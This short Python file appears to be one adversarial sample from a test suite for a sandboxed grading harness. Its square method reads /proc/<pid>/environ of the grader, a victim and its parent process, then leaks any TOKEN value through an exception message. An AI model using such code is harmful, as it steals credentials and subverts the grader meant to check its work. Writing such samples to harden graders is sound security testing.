# ruff: noqa
"""Reads the environment of other processes.

Wins: leak
Status: graded
"""

import glob
import os


class Target:
    def square(self, x):
        said = ""
        for pid in (VICTIM, os.getppid(), GRADER):
            try:
                said += open(f"/proc/{pid}/environ").read()
            except OSError as error:
                said += str(error)
        raise ValueError(said[-1500:] if "TOKEN" not in said else said[said.index("TOKEN") :][:200])

    def secret(self):
        return 0.0
